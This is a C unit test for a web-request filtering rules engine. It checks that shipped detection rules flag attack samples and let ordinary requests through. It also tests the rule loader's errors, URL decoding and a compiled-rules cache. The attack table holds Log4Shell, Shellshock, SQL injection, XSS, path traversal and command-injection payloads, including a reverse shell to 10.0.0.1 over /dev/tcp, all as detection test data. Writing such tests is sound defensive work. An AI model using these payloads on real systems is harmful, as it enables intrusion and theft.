/*  test_bridge_rules.c — unit test for bridge-mitm/rules.c.

    Loads the shipped deploy/bridge-mitm/rules.yaml: every rule must catch
    an attack sample (and be the first rule to do so), and a set of normal
    requests — pages, searches, API calls, form and JSON posts, browser
    headers — must pass. Then the loader's errors (each names FILE:LINE and
    the rule id; a pattern vectorscan refuses gives its message), first
    match in file order across fields, the URL decoding, the excerpt. And
    the compiled-rules cache (rules_cache.c): written 0600, used the next
    time with the same verdicts, not used for other rules or a damaged,
    cut or foreign file (compiled instead, and said), rewritten then; a
    cache that cannot be written does not stop the rules.

    Exits non-zero on any failure; the last line is "N passed, M failed".    */
#include "rules.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "errtext.h"
#include "tally.h"

#define SHIPPED SOURCE_DIR "/deploy/bridge-mitm/rules.yaml"

/*  rules_new, its errors as one text in ERR.                                */
static rules_t *
load_rules (const char *path, char *err, size_t errlen)
{
    config_errors_t errors = { 0 };
    rules_t *rules = rules_new (path, NULL, &errors);
    errtext (&errors, err, errlen);
    return rules;
}


/*  A request to scan. HEADERS uses "Name: value\n" lines.                   */
typedef struct {
    const char *method, *path, *query, *headers, *body;
} request_t;

static const char *s_browser_headers
    = "Host: shop.example\n"
      "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\n"
      "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8\n"
      "Accept-Language: en-US,en;q=0.5\n"
      "Accept-Encoding: gzip, deflate, br\n"
      "Cookie: session=abc123; theme=dark; consent=1|2|3\n"
      "Referer: https://shop.example/search?q=shoes&page=2\n"
      "Sec-Fetch-Mode: navigate\n";

static bool
scan (rules_t *rules, const request_t *r, rules_match_t *m)
{
    const char *headers = r->headers ? r->headers : s_browser_headers;
    rules_input_t in = {
        .method = r->method ? r->method : "GET", .method_len = strlen (r->method ? r->method : "GET"),
        .path = r->path ? r->path : "/", .path_len = strlen (r->path ? r->path : "/"),
        .query = r->query ? r->query : "", .query_len = strlen (r->query ? r->query : ""),
        .headers = headers, .headers_len = strlen (headers),
        .body = (const uint8_t *) (r->body ? r->body : ""), .body_len = strlen (r->body ? r->body : ""),
    };
    return rules_match (rules, &in, m);
}

typedef struct {
    const char *rule;
    request_t request;
} attack_t;

static const attack_t s_attacks[] = {
    { "rce-log4shell-jndi", { .headers = "User-Agent: ${jndi:ldap://evil.example/a}\n" } },
    { "rce-log4shell-jndi", { .query = "x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%2Fa%7D" } },
    { "rce-shellshock", { .headers = "User-Agent: () { :; }; /bin/bash -c 'id'\n" } },
    { "cmdi-chained-command", { .path = "/ping", .query = "host=127.0.0.1;cat+/etc/hostname" } },
    { "cmdi-chained-command", { .method = "POST", .path = "/api/run", .body = "ip=1.2.3.4%7C%7Cwhoami" } },
    { "cmdi-chained-command", { .query = "q=$(id)" } },
    { "cmdi-shell-path", { .query = "cmd=/bin/sh%20-i" } },
    { "cmdi-shell-path", { .method = "POST", .body = "x=bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } },
    { "sqli-union-select", { .path = "/products", .query = "id=1+UNION+SELECT+username,password+FROM+users" } },
    { "sqli-union-select", { .query = "id=1/**/union/**/all/**/select/**/1,2" } },
    { "sqli-union-select", { .query = "id=1%2520union%2520select%25201" } },
    { "sqli-tautology", { .query = "user=admin%27%20OR%20%271%27%3D%271" } },
    { "sqli-tautology", { .method = "POST", .path = "/login", .body = "user=x' or 1=1&pass=y" } },
    { "sqli-comment-terminator", { .method = "POST", .path = "/login", .body = "username=admin'--+&password=x" } },
    { "sqli-comment-terminator", { .query = "id=5')%23" } },
    { "sqli-time-based", { .query = "id=1+AND+SLEEP(5)" } },
    { "sqli-time-based", { .query = "id=1;WAITFOR+DELAY+'0:0:5'" } },
    { "sqli-schema-probe", { .query = "id=(select+table_name+from+information_schema.tables)" } },
    { "xss-script-tag", { .query = "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" } },
    { "xss-event-handler", { .query = "q=<img+src=x+onerror=alert(1)>" } },
    { "xss-event-handler", { .method = "POST", .body = "comment=%3Csvg%2Fonload%3Dalert%281%29%3E" } },
    { "xss-javascript-uri", { .query = "next=javascript:alert(1)" } },
    { "xss-dangerous-tag", { .query = "q=%3Ciframe%20src%3D%2F%2Fevil.example%3E" } },
    { "traversal-dotdot-path", { .path = "/static/../../../../etc/hosts" } },
    { "traversal-dotdot-path", { .path = "/static/%2e%2e/%2e%2e/app.conf" } },
    { "traversal-dotdot-path", { .path = "/img/%252e%252e/%252e%252e/secret" } },
    { "traversal-dotdot-param", { .query = "file=../../../../var/log/syslog" } },
    { "traversal-sensitive-file", { .query = "page=/etc/passwd" } },
    { "traversal-sensitive-file", { .query = "page=php://filter/convert.base64-encode/resource=index" } },
    { "traversal-null-byte", { .query = "file=report.pdf%00.php" } },
    { "scanner-user-agent", { .headers = "Host: a\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\n" } },
    { "scanner-user-agent", { .headers = "User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)\n" } },
    { "scanner-user-agent", { .headers = "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\n" } },
    { "scanner-nmap-probe", { .path = "/nmaplowercheck1700000000" } },
    { "probe-secret-files", { .path = "/.git/config" } },
    { "probe-secret-files", { .path = "/app/.env" } },
    { "probe-debug-method", { .method = "TRACE" } },
};

static const request_t s_normal[] = {
    { .path = "/" },
    { .path = "/index.html" },
    { .path = "/products", .query = "id=42&sort=price&order=desc&page=3" },
    { .path = "/search", .query = "q=how+to+use+javascript%3A+the+good+parts+(chapter+1)" },
    { .path = "/search", .query = "q=O%27Reilly+books+and+magazines" },
    { .path = "/search", .query = "q=rock+%27n%27+roll+or+jazz" },
    { .path = "/search", .query = "q=select+a+union+member+insurance" },
    { .path = "/search", .query = "q=cat+%26+dog+food&category=pets" },
    { .path = "/search", .query = "q=c%2B%2B+vs+rust&lang=en" },
    { .path = "/blog/2024/01/c++-tips-and-tricks" },
    { .path = "/wiki/Main_Page", .query = "action=history&id=5;6" },
    { .path = "/api/v1/users/123/orders", .query = "fields=id,total,status&limit=50" },
    { .path = "/static/app.min.js", .query = "v=1.2.3" },
    { .path = "/images/logo%20large.png" },
    { .path = "/docs/a/b/../c" == NULL ? "/" : "/docs/guide/install.html" },
    { .path = "/maps", .query = "ll=48.8566,2.3522&z=12" },
    { .path = "/redirect", .query = "url=https%3A%2F%2Fshop.example%2Fcart%3Fitem%3D1" },
    { .path = "/calendar", .query = "from=2024-01-01T00:00:00Z&to=2024-01-31" },
    { .method = "POST", .path = "/login", .body = "username=alice&password=s3cr%26t%21&remember=on" },
    { .method = "POST", .path = "/comment", .body = "text=I+think+it%27s+great%2C+and+the+price+is+right%21+5%2F5" },
    { .method = "POST", .path = "/api/cart", .body = "{\"item\":42,\"qty\":2,\"color\":\"#ff0000\",\"note\":\"gift - wrap it\"}" },
    { .method = "POST", .path = "/api/search", .body = "{\"query\":\"union station\",\"filters\":{\"and\":[1,2]}}" },
    { .method = "PUT", .path = "/api/profile", .body = "{\"bio\":\"Developer; likes cats & dogs. Email: a@b.example\"}" },
    { .method = "DELETE", .path = "/api/items/7" },
    { .method = "OPTIONS", .path = "/api/items" },
    { .path = "/", .headers = "User-Agent: curl/7.88.1\nAccept: */*\n" },
    { .path = "/", .headers = "User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1\n" },
    { .path = "/feed.xml", .headers = "User-Agent: Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)\nIf-None-Match: \"abc\"\n" },
    { .path = "/", .headers = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig\nX-Forwarded-For: 198.51.100.7\n" },
};

static void
test_shipped (tally_t *t)
{
    char err[4096];
    rules_t *rules = load_rules (SHIPPED, err, sizeof err);
    if (!check (t, rules != NULL, "shipped rules load: %s", err))
        return;
    check (t, rules_count (rules) >= 15, "shipped rules: %zu", rules_count (rules));
    /* every shipped rule has at least one attack sample */
    for (size_t i = 0; i < rules_count (rules); i++) {
        bool covered = false;
        for (size_t k = 0; k < sizeof s_attacks / sizeof s_attacks[0]; k++)
            covered |= strcmp (s_attacks[k].rule, rules_id (rules, i)) == 0;
        check (t, covered, "rule %s has no attack sample", rules_id (rules, i));
    }
    for (size_t k = 0; k < sizeof s_attacks / sizeof s_attacks[0]; k++) {
        rules_match_t m;
        bool hit = scan (rules, &s_attacks[k].request, &m);
        check (t, hit && strcmp (m.id, s_attacks[k].rule) == 0,
               "attack %zu: expected %s, got %s", k, s_attacks[k].rule, hit ? m.id : "no match");
        if (hit) {
            check (t, strlen (m.matched) <= RULES_MATCHED_MAX, "excerpt bounded");
            check (t, m.severity >= 1 && m.severity <= 10 && *m.category, "severity, category");
        }
    }
    for (size_t k = 0; k < sizeof s_normal / sizeof s_normal[0]; k++) {
        rules_match_t m;
        bool hit = scan (rules, &s_normal[k], &m);
        check (t, !hit, "normal request %zu (%s %s?%s) blocked by %s (%s: '%s')", k,
               s_normal[k].method ? s_normal[k].method : "GET", s_normal[k].path,
               s_normal[k].query ? s_normal[k].query : "", hit ? m.id : "",
               hit ? rules_field_name (m.field) : "", hit ? m.matched : "");
    }
    check (t, rules_scan_errors (rules) == 0, "no scan errors");
    rules_destroy (&rules);
    check (t, rules == NULL, "destroy clears the pointer");
}

/*  Loading TEXT must fail with every string of EXPECTED in the errors.      */
static void
expect_errors (tally_t *t, const char *dir, const char *name, const char *text,
               const char *const *expected)
{
    char path[512], err[4096];
    write_file (dir, name, text, path, sizeof path);
    rules_t *rules = load_rules (path, err, sizeof err);
    check (t, rules == NULL, "%s: should not load", name);
    rules_destroy (&rules);
    for (; *expected; expected++) {
        char want[1024];
        snprintf (want, sizeof want, *expected, path);
        check (t, strstr (err, want) != NULL, "%s: expected '%s' in:\n%s", name, want, err);
    }
}

static void
test_errors (tally_t *t, const char *dir)
{
    expect_errors (t, dir, "badpattern.yaml",
                   "rules:\n"
                   "  - id: fine\n    category: x\n    severity: 3\n    fields: [path]\n"
                   "    pattern: 'abc'\n"
                   "  - id: broken-one\n    category: x\n    severity: 3\n    fields: [query]\n"
                   "    pattern: '(unclosed'\n"
                   "  - id: backref\n    category: x\n    severity: 3\n    fields: [body]\n"
                   "    pattern: '(a)\\1'\n",
                   (const char *const[]) {
                       "%s:7: rule 'broken-one': pattern does not compile: ",
                       "%s:12: rule 'backref': pattern does not compile: ", NULL });
    expect_errors (t, dir, "empty-match.yaml",
                   "rules:\n  - id: empty\n    category: x\n    severity: 1\n    fields: [path]\n"
                   "    pattern: 'a*'\n",
                   (const char *const[]) { "%s:2: rule 'empty': pattern does not compile: ", NULL });
    expect_errors (t, dir, "fields.yaml",
                   "rules:\n"
                   "  - id: r1\n    category: x\n    severity: 11\n    fields: [path, cookie]\n"
                   "    pattern: 'a'\n    colour: red\n"
                   "  - category: y\n    severity: 2\n    fields: path\n    pattern: 'b'\n"
                   "  - id: r1\n    category: y\n    severity: 2\n    fields: path\n    pattern: 'b'\n"
                   "  - id: 'bad id!'\n    category: y\n    severity: 2\n    fields: path\n    pattern: b\n"
                   "  - id: r5\n    category: x\n    severity: 2\n    fields: [path]\n"
                   "    flags: [caseless, sticky]\n    pattern: c\n",
                   (const char *const[]) {
                       "%s:4: rule 'r1': severity: expected an integer 1..10",
                       "%s:5: rule 'r1': fields: 'cookie' is not one of",
                       "%s:7: rule 'r1': unknown key 'colour'",
                       "%s:8: rule '#2': 'id' is required",
                       "%s:12: rule 'r1': duplicate id (first at line 2)",
                       "%s:17: rule '#4': id: expected 1..64",
                       "%s:26: rule 'r5': flags: 'sticky' is not one of", NULL });
    expect_errors (t, dir, "syntax.yaml", "rules:\n  - id: a\n   bad: [\n",
                   (const char *const[]) { "%s:3: YAML: ", NULL });
    expect_errors (t, dir, "norules.yaml", "version: 1\n",
                   (const char *const[]) { "%s:1: no 'rules:' list", NULL });
    expect_errors (t, dir, "toplevel.yaml", "- id: a\n",
                   (const char *const[]) { "%s:1: expected a mapping with a 'rules:' list", NULL });
    /* a repeated key is an error, not one value kept silently (fuzz_rules) */
    expect_errors (t, dir, "repeated.yaml",
                   "rules:\n  - id: a\n    category: x\n    severity: 3\n    fields: [path]\n"
                   "    pattern: 'abc'\n    pattern: 'def'\n",
                   (const char *const[]) { "%s:7: rule 'a': 'pattern' given twice", NULL });
    expect_errors (t, dir, "repeated-top.yaml", "rules: []\nrules: []\n",
                   (const char *const[]) { "%s:2: 'rules' given twice", NULL });
    expect_errors (t, dir, "unknown-top.yaml", "rules: []\nextra: 1\n",
                   (const char *const[]) { "%s:2: unknown key 'extra'", NULL });
    char err[512];
    rules_t *missing = load_rules ("/nonexistent/rules.yaml", err, sizeof err);
    check (t, !missing && strstr (err, "/nonexistent/rules.yaml: cannot open: ") == err,
           "missing file: %s", err);

    char path[512];
    write_file (dir, "none.yaml", "rules: []\n", path, sizeof path);
    rules_t *none = load_rules (path, err, sizeof err);
    check (t, none && rules_count (none) == 0, "an empty list loads: %s", err);
    if (none) {
        rules_match_t m;
        request_t r = { .query = "x" };
        check (t, !scan (none, &r, &m), "no rules, no match");
    }
    rules_destroy (&none);
}

static void
test_order (tally_t *t, const char *dir)
{
    char path[512], err[1024];
    write_file (dir, "order.yaml",
                "rules:\n"
                "  - id: second-field-first-rule\n    category: a\n    severity: 2\n"
                "    fields: [body]\n    pattern: 'needle'\n"
                "  - id: first-field-second-rule\n    category: b\n    severity: 9\n"
                "    fields: [path, body]\n    flags: [caseless]\n    pattern: 'NEEDLE'\n"
                "  - id: decoded-only\n    category: c\n    severity: 5\n"
                "    fields: [query]\n    pattern: 'a b'\n",
                path, sizeof path);
    rules_t *rules = load_rules (path, err, sizeof err);
    if (!check (t, rules != NULL, "order.yaml loads: %s", err))
        return;
    rules_match_t m;
    request_t both = { .path = "/NEEDLE", .body = "xx needle xx" };
    check (t, scan (rules, &both, &m) && strcmp (m.id, "second-field-first-rule") == 0
                  && m.field == RULES_FIELD_BODY && m.severity == 2,
           "first rule in file order wins across fields");
    request_t path_only = { .path = "/NeEdLe" };
    check (t, scan (rules, &path_only, &m) && strcmp (m.id, "first-field-second-rule") == 0
                  && m.field == RULES_FIELD_PATH && strstr (m.matched, "NeEdLe"),
           "caseless flag, excerpt '%s'", m.matched);
    request_t plus = { .query = "q=a+b" };
    check (t, scan (rules, &plus, &m) && strcmp (m.id, "decoded-only") == 0 && m.decoded,
           "'+' decodes to a space in the query");
    request_t path_plus = { .path = "/a+b" };
    check (t, !scan (rules, &path_plus, &m), "'+' stays '+' in the path");

    /* the excerpt: bounded, printable, ends near the match */
    char body[2048];
    memset (body, 'x', sizeof body);
    memcpy (body + 1500, "\x01needle", 7);
    body[sizeof body - 1] = 0;
    request_t big = { .body = body };
    check (t, scan (rules, &big, &m) && strlen (m.matched) == RULES_MATCHED_MAX
                  && strstr (m.matched, ".needle") != NULL,
           "excerpt of %zu bytes: '%s'", strlen (m.matched), m.matched);
    rules_destroy (&rules);
}

static void
test_url_decode (tally_t *t)
{
    struct {
        const char *in;
        bool plus;
        const char *out;
        size_t out_len;
    } cases[] = {
        { "a%20b", false, "a b", 3 },
        { "a+b", true, "a b", 3 },
        { "a+b", false, "a+b", 3 },
        { "%3Cscript%3e", false, "<script>", 8 },
        { "100%", false, "100%", 4 },
        { "%zz%4", false, "%zz%4", 5 },
        { "%2541", false, "%41", 3 },
        { "a%00b", false, "a\0b", 3 },
        { "", true, "", 0 },
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char out[64];
        size_t n = rules_url_decode (cases[i].in, strlen (cases[i].in), cases[i].plus, out);
        check (t, n == cases[i].out_len && memcmp (out, cases[i].out, n) == 0,
               "url decode '%s'", cases[i].in);
    }
}

/*  rules_new with a cache file (rules_cache.c), compared with the rules
    compiled without one.                                                   */
static rules_t *
load_cached (const char *rules_path, const char *cache, char *err, size_t errlen)
{
    config_errors_t errors = { 0 };
    rules_t *rules = rules_new (rules_path, cache, &errors);
    errtext (&errors, err, errlen);
    return rules;
}

/*  Every request scanned by A and B: the same verdict (rule and field).
    The number that matched a rule.                                          */
static int
same_verdicts (tally_t *t, rules_t *a, rules_t *b, const char *what)
{
    static const request_t reqs[] = {
        { .query = "id=1 union select password from users" },
        { .query = "id=1%20UNION%20SELECT%20password%20FROM%20users" },
        { .method = "POST", .body = "comment=<script>alert(1)</script>" },
        { .path = "/static/../../../etc/passwd" },
        { .headers = "User-Agent: sqlmap/1.7\n" },
        { .path = "/shop/item/42", .query = "colour=red&size=m" },
        { .method = "POST", .body = "{\"name\": \"Ada\", \"items\": [1, 2]}" },
    };
    int matched = 0;
    for (size_t i = 0; i < sizeof reqs / sizeof reqs[0]; i++) {
        rules_match_t ma, mb;
        bool ha = scan (a, &reqs[i], &ma), hb = scan (b, &reqs[i], &mb);
        check (t, ha == hb && (!ha || (ma.index == mb.index && ma.field == mb.field)),
               "%s: request %zu: %s/%s against %s/%s", what, i, ha ? ma.id : "-",
               ha ? rules_field_name (ma.field) : "-", hb ? mb.id : "-",
               hb ? rules_field_name (mb.field) : "-");
        matched += ha;
    }
    return matched;
}

static void
flip_byte (const char *path, long from_end)
{
    FILE *f = fopen (path, "r+b");
    if (!f)
        return;
    fseek (f, -from_end, SEEK_END);
    int c = fgetc (f);
    fseek (f, -from_end, SEEK_END);
    fputc (c ^ 0x5a, f);
    fclose (f);
}

static void
test_cache (tally_t *t, const char *dir)
{
    char cache[512], err[1024], other[512];
    snprintf (cache, sizeof cache, "%s/bridge-rules.cache", dir);
    rules_t *plain = load_rules (SHIPPED, err, sizeof err);
    rules_t *first = load_cached (SHIPPED, cache, err, sizeof err);
    if (!check (t, plain && first, "shipped rules load with a cache: %s", err))
        goto done;
    struct stat st;
    check (t, !rules_cached (first) && !*rules_cache_note (first),
           "no cache yet: compiled, nothing to say ('%s')", rules_cache_note (first));
    check (t, stat (cache, &st) == 0 && (st.st_mode & 0777) == 0600 && st.st_size > 1000,
           "the cache written, 0600 (mode %o, %lld bytes)", (unsigned) st.st_mode & 0777,
           (long long) st.st_size);
    rules_t *second = load_cached (SHIPPED, cache, err, sizeof err);
    if (check (t, second && rules_cached (second) && !*rules_cache_note (second),
               "second load from the cache ('%s')", second ? rules_cache_note (second) : err)) {
        check (t, rules_count (second) == rules_count (plain), "as many rules");
        check (t, same_verdicts (t, plain, second, "cached") >= 4,
               "the attacks match (the comparison means something)");
    }
    rules_destroy (&second);

    /* other rules, same cache: not used (another key), compiled, rewritten */
    write_file (dir, "other.yaml",
                "rules:\n  - id: only-one\n    category: a\n    severity: 3\n"
                "    fields: [path]\n    pattern: 'etc/passwd'\n",
                other, sizeof other);
    rules_t *o = load_cached (other, cache, err, sizeof err);
    check (t, o && !rules_cached (o) && strstr (rules_cache_note (o), "not used")
                  && strstr (rules_cache_note (o), "made for other rules"),
           "other rules: the cache is not used ('%s')", o ? rules_cache_note (o) : err);
    rules_destroy (&o);
    o = load_cached (other, cache, err, sizeof err);
    check (t, o && rules_cached (o), "other rules: their own cache next time");
    rules_destroy (&o);

    /* damaged, cut, not a cache at all: compiled, said, the same verdicts
       (the one-rule file: a compile of the shipped rules takes seconds under
       ASan) */
    rules_t *other_plain = load_rules (other, err, sizeof err);
    struct { const char *what; long flip; bool cut; const char *text; const char *note; } bad[] = {
        { "a byte flipped in a database", 100, false, NULL, "damaged" },
        { "the checksum flipped", 3, false, NULL, "damaged" },
        { "cut in half", 0, true, NULL, "damaged" },
        { "not a cache", 0, false, "rules: []\n", "not a rules cache" },
        { "empty", 0, false, "", "not a rules cache" },
    };
    for (size_t i = 0; other_plain && i < sizeof bad / sizeof bad[0]; i++) {
        rules_t *fresh = load_cached (other, cache, err, sizeof err);   /* a good cache */
        rules_destroy (&fresh);
        if (bad[i].flip)
            flip_byte (cache, bad[i].flip);
        if (bad[i].cut && stat (cache, &st) == 0)
            check (t, truncate (cache, st.st_size / 2) == 0, "truncate");
        if (bad[i].text)
            write_file (dir, "bridge-rules.cache", bad[i].text, cache, sizeof cache);
        rules_t *r = load_cached (other, cache, err, sizeof err);
        check (t, r && !rules_cached (r) && strstr (rules_cache_note (r), bad[i].note),
               "%s: compiled instead, said ('%s')", bad[i].what, r ? rules_cache_note (r) : err);
        if (r)
            check (t, same_verdicts (t, other_plain, r, bad[i].what) == 1, "%s: one match",
                   bad[i].what);
        rules_destroy (&r);
        r = load_cached (other, cache, err, sizeof err);
        check (t, r && rules_cached (r), "%s: rewritten, used next time", bad[i].what);
        rules_destroy (&r);
    }
    rules_destroy (&other_plain);

    /* a missing directory is made; one that cannot be (a file is in the
       way): the rules still load, and it is said */
    char deep[600], nowhere[600];
    snprintf (deep, sizeof deep, "%s/state/not/yet/bridge-rules.cache", dir);
    rules_t *n = load_cached (other, deep, err, sizeof err);
    check (t, n && !*rules_cache_note (n) && stat (deep, &st) == 0,
           "a missing state directory is made ('%s')", n ? rules_cache_note (n) : err);
    rules_destroy (&n);
    snprintf (nowhere, sizeof nowhere, "%s/bridge-rules.cache", other);
    n = load_cached (other, nowhere, err, sizeof err);
    check (t, n && !rules_cached (n) && strstr (rules_cache_note (n), "not written")
                  && strstr (rules_cache_note (n), "Not a directory"),
           "unwritable cache: loads, says '%s'", n ? rules_cache_note (n) : err);
    rules_destroy (&n);
done:
    rules_destroy (&first);
    rules_destroy (&plain);
}

int
main (void)
{
    tally_t t = { 0 };
    char dir[] = "/tmp/test_bridge_rules.XXXXXX";
    if (!mkdtemp (dir)) {
        perror ("mkdtemp");
        return 1;
    }
    test_shipped (&t);
    test_errors (&t, dir);
    test_order (&t, dir);
    test_url_decode (&t);
    test_cache (&t, dir);
    remove_tree (dir);
    return tally_report (&t);
}
